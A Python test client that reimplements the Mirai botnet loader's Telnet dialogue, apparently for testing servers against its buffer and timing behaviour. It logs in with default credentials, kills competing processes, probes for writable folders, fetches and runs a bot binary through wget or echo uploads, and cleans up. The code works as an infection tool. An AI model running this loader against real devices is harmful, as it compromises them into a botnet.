"""A Telnet client that reads the way the public Mirai loader (loader/src/server.c and
connection.c) reads, written from a reading of that source for our tests (no code of it here).

What makes the real loader unforgiving, and what this client therefore does the same way:
- One fixed receive buffer (BUF_SIZE bytes) per connection. After every read the current
  stage's matcher looks at the whole buffer; it "consumes" bytes up to a position it returns
  (0 means nothing), and only then is the buffer shifted. The reads are edge-triggered (epoll
  EPOLLET) and go on until EAGAIN, each asking for what room is left.
- While detecting the CPU, the matcher stops at the first "ELF" it sees in the answer to
  `/bin/busybox cat /bin/echo`, takes the header from there, and returns 0 without draining.
  If that read had filled the buffer, the next read has no room: the loader never reads
  again and times out. A device whose telnetd hands out the 700 KB answer in ~2 KB writes never
  gets there; a server that sends it in one burst does.
- Matches use the loader's own search (a naive byte scan that restarts at 0 after a partial
  match) and its prompt rule (the last of ':>$#%' in the buffer; a match at offset 0 counts as
  nothing).
- The login: user name, then "\\r\\n" later from a timer (the loader's output_buffer deadline,
  about 1-2 s; `enter_delay` here), the same for the password.
- The stages: IACs, login, enable/shell/sh, the ECCHI token, ps (kill a second init or
  all-digit names above pid 400), /proc/mounts (an `echo -e` write probe for each rw mount and
  for /dev), the writable folder, `cp /bin/echo dvrHelper`, `cat /bin/echo` (CPU), ARM
  sub-type from /proc/cpuinfo, the upload method (wget, tftp or echo), the upload, running
  it, the ARM retry with the other ARM build when the payload did not say "listening tun0",
  and the clean-up.

The one knob that the real loader does not have: `method` forces the echo upload (the loader
takes it only on devices without wget and tftp) so that both paths can be tested on every
profile.
"""
import select
import socket
import time

BUF_SIZE = 8188          # the loader's receive buffer, as the issue measured it (source: 8192)
DRAIN_AT = 7168          # "hack drain": above this many bytes without a match...
DRAIN_BY = 6144          # ...the first 6144 bytes are dropped
ECHO_LINE = 128          # bytes of the dropper per `echo -ne` line (binary.c)
TOKEN_QUERY = '/bin/busybox ECCHI'
TOKEN_RESPONSE = b'ECCHI: applet not found'
EXEC_QUERY = '/bin/busybox IHCCE'
EXEC_RESPONSE = b'IHCCE: applet not found'
FN_DROPPER = 'upnp'
FN_BINARY = 'dvrHelper'
VERIFY_HEX = '\\x6b\\x61\\x6d\\x69'
VERIFY = b'kami'
PROMPT_CHARS = b':>$#%'

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240

# e_machine -> the loader's architecture names (the order of its checks).
ARCH_OF_MACHINE = {40: 'arm', 183: 'arm', 3: 'x86', 6: 'x86', 7: 'x86', 62: 'x86', 2: 'spc',
                   18: 'spc', 43: 'spc', 4: 'm68k', 5: 'm68k', 20: 'ppc', 21: 'ppc', 42: 'sh4'}


def memsearch(buf, n, pat):
    """The loader's search: the offset just past the first match in buf[:n], or -1. A byte that
    breaks a partial match is not tried as the start of a new one."""
    if len(pat) > n:
        return -1
    matched = 0
    first = pat[0]
    i = 0
    while i < n:
        if matched == 0:
            # Fast path to the next possible start (same result as the byte loop).
            j = buf.find(first, i, n) if isinstance(first, bytes) else buf.find(bytes([first]), i, n)
            if j < 0:
                return -1
            i = j
        if buf[i] == pat[matched]:
            matched += 1
            if matched == len(pat):
                return i + 1
        else:
            matched = 0
        i += 1
    return -1


class LoaderClient:
    def __init__(self, port, host='127.0.0.1', user='root', password='xc3511', method=None,
                 wget_host='127.0.0.1', wget_port=80, payloads=None, id_tag='telnet',
                 enter_delay=1.0, buf_size=BUF_SIZE):
        self.addr = (host, port)
        self.user, self.password = user, password
        self.forced_method = method
        self.wget_host, self.wget_port = wget_host, wget_port
        self.payloads = payloads        # callable(kind, arch) -> bytes; kind 'dlr' for echo
        self.id_tag = id_tag
        self.enter_delay = enter_delay
        self.buf = bytearray(buf_size + 1)
        self.size = buf_size
        self.pos = 0
        self.state = 'read_iacs'
        self.history = ['read_iacs']
        self.arch = ''
        self.has_arch = False
        self.writedir = ''
        self.method = None
        self.echo_lines = []
        self.echo_pos = 0
        self.retry_bin = False
        self.success = False
        self.done = False
        self.stalled = False            # a read found no room left in the buffer
        self.closed_by_peer = False
        self.sent = []
        self.pending_enter = None       # time at which "\r\n" is due
        self.max_read = 0               # the largest single read, for diagnostics
        self.arch_read = None           # (bytes in the buffer, room) of the read that saw ELF
        self.arch_window = None         # (bytes of that read, seconds since the socket was
                                        # last seen empty): how fast the server sent them
        self.empty_at = None
        self.uploads = []               # (method, arch) of each upload started

    # -------------------------------------------------------------- plumbing
    def send(self, text):
        data = text.encode('latin-1') if isinstance(text, str) else text
        self.sent.append(data)
        self.sock.setblocking(True)
        self.sock.sendall(data)
        self.sock.setblocking(False)

    def goto(self, state):
        self.state = state
        self.history.append(state)

    def consume(self, n):
        n = min(n, self.pos)
        self.buf[0:self.pos - n] = self.buf[n:self.pos]
        self.pos -= n
        self.buf[self.pos] = 0

    def find(self, pat, n=None):
        return memsearch(self.buf, self.pos if n is None else n, pat)

    def run(self, timeout=60):
        """Runs the dialogue until the loader would close the connection. Returns self."""
        self.sock = socket.create_connection(self.addr, timeout=10)
        self.sock.setblocking(False)
        ep = select.epoll()
        ep.register(self.sock.fileno(), select.EPOLLIN | select.EPOLLET)
        deadline = time.monotonic() + timeout
        try:
            while not self.done:
                now = time.monotonic()
                if now >= deadline:
                    break
                wait = deadline - now
                if self.pending_enter is not None:
                    wait = max(0.0, min(wait, self.pending_enter - now))
                events = ep.poll(wait)
                if self.pending_enter is not None and time.monotonic() >= self.pending_enter:
                    self.pending_enter = None
                    self.send('\r\n')
                if events:
                    self.on_readable()
        finally:
            ep.close()
            self.sock.close()
        return self

    def on_readable(self):
        while not self.done:
            room = self.size - self.pos
            if room <= 0:
                # recv() with no room returns 0: the loader leaves its read loop and, its
                # socket being edge-triggered, never comes back to this data.
                self.stalled = True
                return
            try:
                data = self.sock.recv(room)
            except BlockingIOError:
                self.empty_at = time.monotonic()
                return
            except ConnectionResetError:
                data = b''
            if not data:
                self.closed_by_peer = True
                self.done = True
                return
            self.last_read = (len(data), time.monotonic() - (self.empty_at or 0))
            self.buf[self.pos:self.pos + len(data)] = data
            self.pos += len(data)
            self.buf[self.pos] = 0
            self.max_read = max(self.max_read, len(data))
            while not self.done:
                consumed = getattr(self, 'st_' + self.state)()
                if consumed <= 0:
                    break
                self.consume(consumed)

    # -------------------------------------------------------------- matchers
    def prompt_end(self):
        """The last prompt character in the buffer (the loader also looks at the byte after
        the data, which is 0)."""
        return max(self.buf.rfind(bytes([c]), 0, self.pos) for c in PROMPT_CHARS)

    def st_read_iacs(self):
        i = 0
        while i < self.pos and self.buf[i] == IAC:
            if i + 1 >= self.pos:
                break
            if self.buf[i + 1] == IAC:
                i += 2
                continue
            if i + 2 >= self.pos:
                break
            if self.buf[i + 1] == DO and self.buf[i + 2] == 31:
                self.send(bytes([IAC, WILL, 31]))
                self.send(bytes([IAC, SB, 31, 0, 80, 0, 24, IAC, SE]))
            else:
                reply = bytearray(self.buf[i:i + 3])
                for k in range(3):
                    if reply[k] == DO:
                        reply[k] = WONT
                    elif reply[k] == WILL:
                        reply[k] = DO
                self.send(bytes(reply))
            i += 3
        if i:
            self.goto('user_prompt')
        return i

    def st_user_prompt(self):
        end = self.prompt_end()
        if end < 0:
            end = self.find(b'ogin')
            if end < 0:
                end = self.find(b'enter')
        if end <= 0:
            return 0
        self.send(self.user)
        self.pending_enter = time.monotonic() + self.enter_delay
        self.goto('pass_prompt')
        return end

    def st_pass_prompt(self):
        end = self.prompt_end()
        if end < 0:
            end = self.find(b'assword')
        if end <= 0:
            return 0
        self.send(self.password)
        self.pending_enter = time.monotonic() + self.enter_delay
        self.goto('waitpass_prompt')
        return end

    def st_waitpass_prompt(self):
        end = self.prompt_end()
        if end <= 0:
            return 0
        self.send('enable\r\n')
        self.send('shell\r\n')
        self.send('sh\r\n')
        self.goto('check_login')
        return end

    def st_check_login(self):
        end = self.prompt_end()
        if end <= 0:
            return 0
        self.send(TOKEN_QUERY + '\r\n')
        self.goto('verify_login')
        return end

    def st_verify_login(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        self.send('/bin/busybox ps; ' + TOKEN_QUERY + '\r\n')
        self.goto('parse_ps')
        return end

    def st_parse_ps(self):
        # The loader parses the lines on every read, token or not (and so may send a kill more
        # than once); here they are parsed once, when the token has come.
        end = self.find(TOKEN_RESPONSE)
        if end >= 0:
            for line in bytes(self.buf[:end]).replace(b'\r', b'\n').split(b'\n'):
                fields = line.split()
                if not fields:
                    continue
                try:
                    pid = int(fields[0])
                except ValueError:
                    continue
                if len(fields) < 3:
                    continue
                name = fields[min(len(fields) - 1, 4)].decode('latin-1')
                if pid != 1 and name in ('init', '[init]'):
                    self.send('/bin/busybox kill -9 %d\r\n' % pid)
                elif pid > 400:
                    head = ''
                    for ch in name:
                        if ch.isalpha():
                            head = None
                            break
                        head += ch
                    if head is not None and any(ch.isdigit() for ch in head):
                        self.send('/bin/busybox kill -9 %d\r\n' % pid)
        if end < 0:
            if self.pos > DRAIN_AT:
                self.consume(DRAIN_BY)
            return 0
        self.send('/bin/busybox cat /proc/mounts; ' + TOKEN_QUERY + '\r\n')
        self.goto('parse_mounts')
        return end

    def st_parse_mounts(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        line = bytearray()
        spaces = 0
        for b in bytes(self.buf[:end]):
            if len(line) == 255:
                break          # the loader's 256-byte line buffer is full: it stops here
            if b == 0x0a:
                words = [w for w in bytes(line).split(b' ') if w]
                if len(words) >= 4:
                    path, opts = words[1], words[3]
                    if path.endswith(b'/'):
                        path = path[:-1]
                    if b'rw' in opts:
                        p = path.decode('latin-1')
                        self.send("/bin/busybox echo -e '%s%s' > %s/.nippon; /bin/busybox cat "
                                  "%s/.nippon; /bin/busybox rm %s/.nippon\r\n"
                                  % (VERIFY_HEX, p, p, p, p))
                line = bytearray()
            elif b in (0x20, 0x09):
                if spaces == 0:
                    line.append(b)
                spaces += 1
            elif b != 0x0d:
                spaces = 0
                line.append(b)
        self.send("/bin/busybox echo -e '%s/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; "
                  "/bin/busybox rm /dev/.nippon\r\n" % VERIFY_HEX)
        self.send(TOKEN_QUERY + '\r\n')
        self.goto('read_writeable')
        return end

    def st_read_writeable(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        at = 0
        while True:
            off = memsearch(self.buf[at:end], end - at, VERIFY)
            if off < 0:
                break
            at += off
            rest = bytes(self.buf[at:end]).lstrip(b'\n')
            line = rest.split(b'\n', 1)[0]
            n = len(line)
            if line.endswith(b'\r'):
                line = line[:-1]
            d = line.decode('latin-1')
            self.send('rm %s/.t; rm %s/.sh; rm %s/.human\r\n' % (d, d, d))
            if not self.writedir:
                if n < 31:
                    self.writedir = d
                else:
                    self.done = True
                    return 0
        self.send('cd %s/\r\n' % self.writedir)
        self.send('/bin/busybox cp /bin/echo %s; >%s; /bin/busybox chmod 777 %s; %s\r\n'
                  % (FN_BINARY, FN_BINARY, FN_BINARY, TOKEN_QUERY))
        self.goto('copy_echo')
        return end

    def st_copy_echo(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        if not self.has_arch:
            self.goto('detect_arch')
            self.send('/bin/busybox cat /bin/echo\r\n')   # two writes, as the loader does
            self.send(TOKEN_QUERY + '\r\n')
        else:
            self.goto('upload_methods')
            self.send('/bin/busybox wget; /bin/busybox tftp; ' + TOKEN_QUERY + '\r\n')
        return end

    def st_detect_arch(self):
        if not self.has_arch:
            end = self.find(b'ELF')
            if end < 0:
                return 0
            self.arch_read = (self.pos, self.size - self.pos)
            self.arch_window = self.last_read
            at = end - 4
            hdr = bytes(self.buf[at:at + 20])
            self.has_arch = True
            data = hdr[5]
            if data == 0:
                return 0
            machine = int.from_bytes(hdr[18:20], 'little' if data == 1 else 'big')
            if machine in (8, 10):
                self.arch = 'mpsl' if data == 1 else 'mips'
            else:
                self.arch = ARCH_OF_MACHINE.get(machine, '')
            if not self.arch:
                self.done = True
            return 0
        end = self.find(TOKEN_RESPONSE)
        if end >= 0:
            if self.arch == 'arm':
                self.send('cat /proc/cpuinfo; ' + TOKEN_QUERY + '\r\n')
                self.goto('arm_subtype')
            else:
                self.send('/bin/busybox wget; /bin/busybox tftp; ' + TOKEN_QUERY + '\r\n')
                self.goto('upload_methods')
            return end
        if self.pos > DRAIN_AT:
            self.consume(DRAIN_BY)
        return 0

    def st_arm_subtype(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        if self.find(b'ARMv7', end) >= 0 or self.find(b'ARMv6', end) >= 0:
            self.arch = 'arm7'
        self.send('/bin/busybox wget; /bin/busybox tftp; ' + TOKEN_QUERY + '\r\n')
        self.goto('upload_methods')
        return end

    def st_upload_methods(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        if self.forced_method:
            self.method = self.forced_method
        elif self.find(b'wget: applet not found', end) < 0:
            self.method = 'wget'
        elif self.find(b'tftp: applet not found', end) < 0:
            self.method = 'tftp'
        else:
            self.method = 'echo'
        self.uploads.append((self.method, self.arch))
        if self.method == 'echo':
            body = self.payloads('dlr', self.arch)
            self.echo_lines = [body[i:i + ECHO_LINE] for i in range(0, len(body), ECHO_LINE)]
            self.echo_pos = 0
            self.goto('upload_echo')
            self.send('/bin/busybox cp %s %s; > %s; /bin/busybox chmod 777 %s; %s\r\n'
                      % (FN_BINARY, FN_DROPPER, FN_DROPPER, FN_DROPPER, TOKEN_QUERY))
        elif self.method == 'wget':
            self.goto('upload_wget')
            self.send('/bin/busybox wget http://%s:%d/bins/mirai.%s -O - > %s; /bin/busybox '
                      'chmod 777 %s; %s\r\n' % (self.wget_host, self.wget_port, self.arch,
                                                FN_BINARY, FN_BINARY, TOKEN_QUERY))
        else:
            self.done = True       # tftp is not driven by these tests
        return end

    def st_upload_echo(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        if self.echo_pos == len(self.echo_lines):
            self.goto('run_binary')
            self.send('./%s; ./%s %s.%s; %s\r\n' % (FN_DROPPER, FN_BINARY, self.id_tag, self.arch,
                                                    EXEC_QUERY))
            return end
        hexed = ''.join('\\x%02x' % b for b in self.echo_lines[self.echo_pos])
        self.send("echo -ne '%s' %s %s; %s\r\n" % (hexed, '>' if self.echo_pos == 0 else '>>',
                                                  FN_DROPPER, TOKEN_QUERY))
        self.echo_pos += 1
        self.consume(end)
        return 0

    def st_upload_wget(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        self.goto('run_binary')
        self.send('./%s %s.%s; %s\r\n' % (FN_BINARY, self.id_tag, self.arch, EXEC_QUERY))
        return end

    def st_run_binary(self):
        end = self.find(EXEC_RESPONSE)
        if end < 0:
            return 0
        if self.find(b'listening tun0', end) >= 0:
            self.success = True
        elif not self.retry_bin and self.arch.startswith('arm'):
            self.echo_pos = 0
            self.arch = 'arm7' if self.arch == 'arm' else 'arm'
            self.send('/bin/busybox wget; /bin/busybox tftp; ' + TOKEN_QUERY + '\r\n')
            self.goto('upload_methods')
            self.retry_bin = True
            return end
        self.send('rm -rf %s; > %s; %s\r\n' % (FN_DROPPER, FN_BINARY, TOKEN_QUERY))
        self.goto('cleanup')
        return end

    def st_cleanup(self):
        end = self.find(TOKEN_RESPONSE)
        if end < 0:
            return 0
        self.goto('closed')
        self.done = True
        return end

    def st_closed(self):
        return 0
